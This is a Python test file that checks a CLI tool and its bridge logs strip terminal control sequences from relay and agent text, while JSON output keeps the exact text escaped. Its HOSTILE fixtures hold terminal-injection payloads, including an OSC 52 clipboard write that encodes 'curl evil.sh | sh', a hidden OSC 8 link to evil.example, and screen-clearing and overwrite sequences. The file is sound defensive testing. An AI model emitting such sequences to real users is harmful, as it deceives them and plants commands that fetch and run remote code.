"""Text from the relay reaches a person's terminal without its control sequences: an agent's
clear-screen, clipboard write (OSC 52), hidden link (OSC 8), `\\r` overwrite or 8-bit CSI shows
as the words around it, in every command's lines and tables and in the bridges' logs, while
newlines and tabs stay. JSON output keeps the exact text, escaped: no raw ESC or C1 byte."""

from __future__ import annotations

import io
import json
import logging
import subprocess
import sys
import uuid

import click
import pytest
from click.testing import CliRunner

from state.errors import YuiError
from tests.helpers.bridge import FakeWebhook, Machine, reply
from tests.helpers.cli import ROOT
from tests.helpers.relay import Host, LocalRelay
from yui_cli.main import YuiGroup
from yui_cli.output import CleanLogs, clean, json_line

# What a hostile agent writes: each piece hides or forges something on the person's screen.
HOSTILE = (
    "Hello\x1b[2J\x1b[H"  # clear the screen, cursor home
    "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # put a command in the clipboard
    " \x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\"  # a link that hides its target
    " safe\roverwritten"  # a carriage return that overwrites what was written
    " \x9b31mred\x9b0m"  # 8-bit CSI (C1)
    " \x9d0;title\x9c\x07\x08\x7f"  # 8-bit OSC, BEL, backspace, DEL
    "\nline two\tcolumn"
)
RAW = ("\x1b", "\x9b", "\x9d", "\x9c", "\r", "\x07", "\x08", "\x7f")
HIDDEN = ("52;c", "Y3VybCBldmlsLnNoIHwgc2g=", "evil.example", "[2J", "0;title", "31m")
SHOWN = ("Hello", "click me", "safe", "overwritten", "red", "line two\tcolumn")


def assert_no_escapes(text: str) -> None:
    for raw in RAW:
        assert raw not in text, f"{raw!r} reached the terminal: {text!r}"
    for hidden in HIDDEN:
        assert hidden not in text, f"{hidden!r} (part of a control sequence) shows: {text!r}"


def assert_clean(text: str) -> None:
    assert_no_escapes(text)
    for shown in SHOWN:
        assert shown in text.replace("\n" + " " * 10, "\n"), f"{shown!r} is missing: {text!r}"


# --- the one function --------------------------------------------------------------------


def test_control_sequences_go_and_the_words_stay() -> None:
    assert_clean(clean(HOSTILE))
    assert clean(HOSTILE).endswith("\nline two\tcolumn")
    assert clean("a\r\nb\rc\u2028d") == "a\nb\nc\nd"  # every line break a newline
    assert clean("café 👍 ✓✓ [yui] n1 ask") == "café 👍 ✓✓ [yui] n1 ask"
    assert clean("unfinished \x1b]52;c;abc") == "unfinished 52;c;abc"  # nothing is swallowed


def test_json_lines_keep_the_exact_text_escaped() -> None:
    record = {"body": HOSTILE + "\u2028\u2029\x85", "name": "Café"}
    line = json_line(record)
    assert json.loads(line) == record
    for raw in (*RAW, "\u2028", "\u2029", "\x85"):
        assert raw not in line
    assert "Café" in line  # the rest stays readable, not \\u-escaped


def test_an_error_message_from_the_relay_is_clean() -> None:
    @click.group(cls=YuiGroup)
    def root() -> None:
        pass

    @root.command()
    def boom() -> None:
        raise YuiError(f"the host says: {HOSTILE}", hint=HOSTILE)

    result = CliRunner().invoke(root, ["boom"])
    assert result.exit_code == 1
    assert_no_escapes(result.stderr)  # (the console there turns tabs into spaces)
    assert result.stderr.startswith("Error: the host says: Hello click me safe\noverwritten")


def test_log_records_are_clean_message_args_and_traceback() -> None:
    out = io.StringIO()
    handler = logging.StreamHandler(out)
    handler.setFormatter(logging.Formatter("%(levelname)s %(name)s: %(message)s"))
    handler.addFilter(CleanLogs())
    log = logging.getLogger(f"yui.test.{uuid.uuid4().hex}")
    log.addHandler(handler)
    log.propagate = False
    log.warning("turn %s: webhook said %s", "k1", HOSTILE)
    try:
        raise ValueError(HOSTILE)
    except ValueError as exc:
        log.exception("the agent plug-in failed: %s", exc)
    text = out.getvalue()
    assert_clean(text)
    assert "WARNING yui.test" in text and "ValueError" in text
    # a line break in a message can't pass for a record of its own
    assert all(line.startswith(("WARNING", "ERROR", " ")) for line in text.splitlines())


# --- end to end: a real relay, `yui` as real processes ------------------------------------

HOST_NAME = "Desk\x1b]52;c;ZXZpbA==\x07\x9b2J\rPwned"  # the relay keeps up to 40 characters


def printed(machine: Machine, *args: str) -> str:
    """What `yui ARGS` prints on stdout, byte for byte (text mode would turn \\r into \\n)."""
    result = subprocess.run(
        [sys.executable, str(ROOT / "bin" / "yui"), *args],
        env=machine.env(),
        capture_output=True,
        timeout=120,
    )
    assert result.returncode == 0, result.stderr.decode()
    return result.stdout.decode()


@pytest.fixture
def hostile(relay: LocalRelay, machine: Machine) -> None:
    """A person (`yui app`) whose agent's host is hostile: its name and its reply."""
    machine.yui("app", "signup", "pat")
    added = json.loads(machine.yui("app", "add-agent", "Coach", "--json").stdout)
    host = Host.pair(relay, added["code"], "coach", host_name=HOST_NAME)
    answer = host.reply(added["agent"], HOSTILE, meta={})
    assert answer.status_code == 201, answer.text


def test_app_thread_shows_the_words_without_the_escapes(machine, hostile) -> None:
    shown = printed(machine, "app", "thread")
    assert "Coach: Hello" in shown
    assert_clean(shown)
    as_json = printed(machine, "app", "thread", "--json")
    (row,) = [json.loads(line) for line in as_json.splitlines()]
    assert row["body"] == HOSTILE  # a script still reads the exact text
    for raw in RAW:
        assert raw not in as_json


def test_a_list_shows_the_words_without_the_escapes(machine, hostile) -> None:
    table = printed(machine, "app", "hosts", "--table")
    assert table.startswith("NAME")
    assert "Desk Pwned" in table  # the name's line break is a space in a table
    for raw in RAW:
        assert raw not in table
    assert "52;c" not in table and "ZXZpbA" not in table and "2J" not in table


def test_a_bridge_log_line_is_clean(relay, machine) -> None:
    """The bridge logs why it left an agent's picture as written, naming the URL (without its
    query): the agent's escapes in that URL reach the log as words."""
    person = relay.person()
    agent = machine.pair(person, "Coach", "coach")["agent"]
    sneaky = (
        "http://127.0.0.1:9/a\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07b\x9b2Jc.png?token=t0ps3cret"
    )
    hook = FakeWebhook(lambda call: reply(f"```yui\nimage {sneaky}\n```"))
    bridge = machine.bridge(hook.url)
    bridge.wait("start")
    assert person.say(agent, "show me").status_code == 201
    event = bridge.wait("media")
    assert event["stored"] == [] and len(event["left"]) == 1
    bridge.terminate()
    _, stderr = bridge.output()
    (logged,) = [line for line in stderr.splitlines() if "left as written" in line]
    assert "http://127.0.0.1:9/abc.png" in logged and "loopback" in logged
    for raw in RAW:
        assert raw not in stderr
    assert "52;c" not in stderr and "t0ps3cret" not in stderr
    hook.close()
